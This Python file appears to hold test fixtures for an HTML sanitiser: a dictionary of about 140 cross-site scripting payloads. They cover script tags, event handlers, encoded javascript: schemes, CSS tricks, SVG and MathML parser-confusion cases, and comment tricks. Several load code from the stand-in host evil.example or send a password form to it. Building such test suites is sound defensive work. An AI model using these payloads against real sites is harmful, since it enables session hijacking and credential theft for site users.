"""Hostile HTML of every known family, written for these tests."""

from __future__ import annotations

PAYLOADS = {
    # Scripts
    "a script": "<script>steal()</script>",
    "a script in capitals with an address": "<SCRIPT SRC=//evil.example/s.js></SCRIPT>",
    "a script that was not closed": "<script>steal()",
    "a script closed oddly": "<script>steal()</script\t\n foo>after",
    "a script in two halves": "<scr<script>ipt>steal()</scr</script>ipt>",
    "a script behind a slash": "<script/x>steal()</script>",
    "a script after a NUL": "<scr\x00ipt>steal()</scr\x00ipt>",
    "a script escaped twice": "&lt;script&gt;steal()&lt;/script&gt;",
    "a script as an XML instruction": "<?xml-stylesheet href='javascript:steal()'?>",
    "a module": "<script type=module>import('//evil.example/m.js')</script>",
    # Event handlers
    "a picture that fails": "<img src=x onerror=steal()>",
    "a handler without a space": "<img/src=x/onerror=steal()>",
    "a handler after a quote": '<img src="x"onerror="steal()">',
    "a handler in capitals": "<B ONMOUSEOVER=steal()>x</B>",
    "a handler after a line feed": "<b\nonclick\n=\nsteal()>x</b>",
    "a handler that starts by itself": "<details open ontoggle=steal()>x</details>",
    "a handler that focus starts": "<p tabindex=1 autofocus onfocus=steal()>x</p>",
    "a handler of an animation": "<p style=animation-name:a onanimationend=a()>x</p>",
    "a handler after an unclosed quote": "<img title='x onerror=steal() src=y>",
    "a handler behind a backtick": "<img src=`x` onerror=steal()>",
    "a handler in a closing tag": "<b>x</b onclick=steal()>",
    "a handler whose name is escaped": "<b &#111;nclick=steal()>x</b>",
    # Schemes
    "a script address": "<a href='javascript:steal()'>x</a>",
    "a script address in mixed case": "<a href='jAvAsCrIpT:steal()'>x</a>",
    "a scheme with a tab inside": "<a href='java\tscript:steal()'>x</a>",
    "a scheme with an escaped line feed": "<a href='java&#10;script:steal()'>x</a>",
    "a scheme with the name of a tab": "<a href='jav&Tab;ascript:steal()'>x</a>",
    "a scheme in decimal": "<a href='&#106;&#97;vascript:steal()'>x</a>",
    "a scheme in long hexadecimal": "<a href='&#x000006A;avascript&#x3a;steal()'>x</a>",
    "a colon by its name": "<a href='javascript&colon;steal()'>x</a>",
    "a scheme after a control character": "<a href='\x01javascript:steal()'>x</a>",
    "a scheme after spaces of many kinds": (
        "<a href='&#160;javascript:steal()'>x</a>"
        "<a href='&#8232;javascript:steal()'>x</a>"
        "<a href='&#12288;javascript:steal()'>x</a>"
        "<a href='&#65279;javascript:steal()'>x</a>"
    ),
    "a scheme with letters of full width": "<a href='ｊavascript:steal()'>x</a>",
    "a Visual Basic address": "<a href='vbscript:steal'>x</a>",
    "a live script address": "<a href='livescript:steal()'>x</a>",
    "a page as data": "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "a page as data in base64": "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "a drawing as data": "<img src='data:image/svg+xml,<svg onload=steal()>'>",
    "a view of the source": "<a href='view-source:javascript:steal()'>x</a>",
    "a file": "<img src='file:///etc/passwd'><a href='file:///etc/passwd'>x</a>",
    "a script address as a quotation's": "<blockquote cite='javascript:steal()'>x",
    "a script address of a lazy picture": "<img data-src='javascript:steal()'>",
    "a script address among candidates": "<img srcset='javascript:steal() 2x, b 1x'>",
    "a script address of old": "<img lowsrc=javascript:x dynsrc=javascript:x>",
    "a script address of a background": "<table background='javascript:steal()'><td>x",
    "a script address of a film": "<video src=javascript:steal() poster=javascript:x>",
    "a script address of a player": "<iframe src='javascript:steal()'></iframe>",
    "a player of a known host with a script": (
        "<iframe src='https://www.youtube.com/embed/\"onload=\"steal()'></iframe>"
    ),
    "a player that shows a script address": (
        "<iframe src='https://www.facebook.com/plugins/video.php"
        "?href=javascript:steal()//facebook.com/'></iframe>"
    ),
    "a player with a title of mark-up": (
        "<iframe src='https://www.youtube.com/embed/a' title='<img src=x onerror=a()>'>"
    ),
    # Styles
    "a style": "<style>@import '//evil.example/s.css';</style>",
    "a style that was not closed": "<style><img src=x onerror=steal()>",
    "an expression": "<b style='width:expression(steal())'>x</b>",
    "a binding": "<b style='-moz-binding:url(//evil.example/b.xml#x)'>x</b>",
    "a behaviour": "<b style='behavior:url(//evil.example/b.htc)'>x</b>",
    "a background in a style": "<b style='background:url(javascript:steal())'>x</b>",
    "a layer over the page": "<div style='position:fixed;inset:0;z-index:9'>x</div>",
    "a style sheet by link": "<link rel=stylesheet href='//evil.example/s.css'>",
    # Documents inside documents
    "a frame with a source": "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "a frame that was not closed": "<iframe><img src=x onerror=steal()>",
    "an object": "<object data='//evil.example/x.swf'><param name=a value=b></object>",
    "an embedded file": "<embed src='//evil.example/x.swf' allowscriptaccess=always>",
    "an applet": "<applet code=Evil archive='//evil.example/e.jar'></applet>",
    "frames": "<frameset onload=steal()><frame src=javascript:steal()></frameset>",
    "a base of another host": "<base href='//evil.example/'><a href=x>x</a>",
    "a refresh": "<meta http-equiv=refresh content='0;url=javascript:steal()'>",
    "a cookie": "<meta http-equiv=set-cookie content='a=b'>",
    "a body of its own": "<body onload=steal() background=javascript:x>x</body>",
    "a document of its own": "<!DOCTYPE html><html manifest=//evil.example/><head>x",
    "a tab index for a key": "<a accesskey=x href='javascript:steal()'>x</a>",
    "a ping": "<a href='https://a.example/' ping='//evil.example/'>x</a>",
    # Forms
    "a form": "<form action='//evil.example/'><input name=password></form>",
    "a form in an attribute of a button": "<button formaction=javascript:steal()>x",
    "a search of old": "<isindex type=image src=x onerror=steal()>",
    "a key generator": "<keygen autofocus onfocus=steal()>",
    "a name that hides a method": "<img name=getElementById><a id=cookie>x</a>",
    "a marquee": "<marquee onstart=steal()>x</marquee>",
    # Drawings and formulas
    "a drawing": "<svg onload=steal()>",
    "a script in a drawing": "<svg><script>steal&#40;)</script></svg>",
    "a script in a drawing by another name": "<svg><script xlink:href=data:,steal() />",
    "a link in a drawing": "<svg><a xlink:href='javascript:steal()'><text>x</text></a>",
    "a drawing used from elsewhere": "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "an animated link": (
        "<svg><a><animate attributeName=href values=javascript:steal() /></a></svg>"
    ),
    "an attribute that is set": "<svg><set attributeName=onmouseover to=steal()></svg>",
    "HTML in a drawing": (
        "<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject></svg>"
    ),
    "a style in a drawing": "<svg><style></style><p title='</style><img onerror=a>'>",
    "a link in a formula": "<math href=javascript:steal()>x</math>",
    "an action of a formula": (
        "<math><maction actiontype='status#//x' xlink:href='javascript:x'>y</maction>"
    ),
    # What means something else when it is parsed again
    "a formula that closes a table": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        "<img src onerror=steal()>"
    ),
    "mark-up in the style of a formula": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>"
    ),
    "a comment in the style of a drawing": (
        "<svg></p><style><a id='</style><img src=1 onerror=steal()>'>"
    ),
    "an annotation that is HTML": (
        "<math><annotation-xml encoding='text/html'><style>"
        "<img src=x onerror=steal()></style></annotation-xml></math>"
    ),
    "a title that ends in an attribute": (
        "<svg><title><b title='</title><img src=x onerror=steal()>'></title></svg>"
    ),
    "a script block behind noscript": (
        "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>"
    ),
    "a text area that ends in an attribute": (
        "<textarea><p title='</textarea><img src=x onerror=steal()>'></textarea>"
    ),
    "an example that ends in an attribute": (
        "<xmp><p title='</xmp><img src=x onerror=steal()>'></xmp>"
    ),
    "a frame's text that ends in an attribute": (
        "<noframes><p title='</noframes><img src=x onerror=steal()>'></noframes>"
    ),
    "an embed's text that ends in an attribute": (
        "<noembed><p title='</noembed><img src=x onerror=steal()>'></noembed>"
    ),
    "plain text to the end": "<plaintext><img src=x onerror=steal()>",
    "a listing": "<listing>&lt;img src=x onerror=steal()&gt;</listing>",
    "a list to choose from": "<select><style></select><img onerror=steal()></style>",
    "a template": "<template><img src=x onerror=steal()></template>",
    "a template with a shadow": (
        "<div><template shadowrootmode=open><script>steal()</script></template></div>"
    ),
    "a slot": "<slot onslotchange=steal()><b slot=x>y</b></slot>",
    "a table that throws out its content": (
        "<table><a href='javascript:steal()'>x<tr><td><script>steal()</script>"
    ),
    "formatting that is taken up again": (
        "<a href='javascript:a()'><p><a href='javascript:b()'><div><b onclick=c()>x"
    ),
    "links in links": "<a href=x><a href='javascript:steal()'><a onclick=steal()>x",
    # Comments and sections
    "a comment": "<!--<img src=x onerror=steal()>-->",
    "a comment closed at once": "<!--><img src=x onerror=steal()>-->",
    "a comment closed with a bang": "<!-- --!><img src=x onerror=steal()> -->",
    "a comment for one": "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
    "a condition for one browser": "<![if gte IE 4]><script>steal()</script><![endif]>",
    "a section of characters": "<![CDATA[><img src=x onerror=steal()>]]>",
    "a section in a drawing": "<svg><![CDATA[</svg><img src=x onerror=steal()>]]>",
    "a declaration": "<!ATTLIST a onclick CDATA 'steal()'><a>x</a>",
    "an XML island": "<xml id=i><x><![CDATA[<img onerror=steal()>]]></x></xml>",
    "a namespace": "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>steal()",
    "a processing instruction": "<?php echo '<script>steal()</script>'; ?>",
    # Pictures
    "candidates of another host": "<img src=a srcset='//evil.example/x 1x'>",
    "a map": "<img usemap='#m'><map name=m><area href='javascript:steal()'></map>",
    "an image by its other name": "<image src=x onerror=steal()>",
    "a picture of many sources": (
        "<picture><source srcset='javascript:steal()'><img onerror=steal()></picture>"
    ),
    "an input that is a picture": "<input type=image src=x onerror=steal()>",
    # Attributes that carry mark-up
    "mark-up in an attribute": "<b title='</b><script>steal()</script>'>x</b>",
    "mark-up in a description": "<img alt='--><script>steal()</script>'>",
    "a direction that is none": "<b dir='\" onclick=steal()'>x</b>",
    "a language that is none": "<b lang='en\" onclick=\"steal()'>x</b>",
    "a backtick in an attribute": "<b title='``onclick=steal()'>x</b>",
    "a share bar with a script": (
        "<div class='sharedaddy' onclick=steal()><script>steal()</script></div>"
    ),
    "half a surrogate before a script": "\ud83d<script>steal()</script>",
    "overlong letters": "\u00c0\u00bcscript\u00c0\u00be<script>steal()</script>",
    "an end that is missing": "<a href='https://a.example/' onclick='steal()",
}
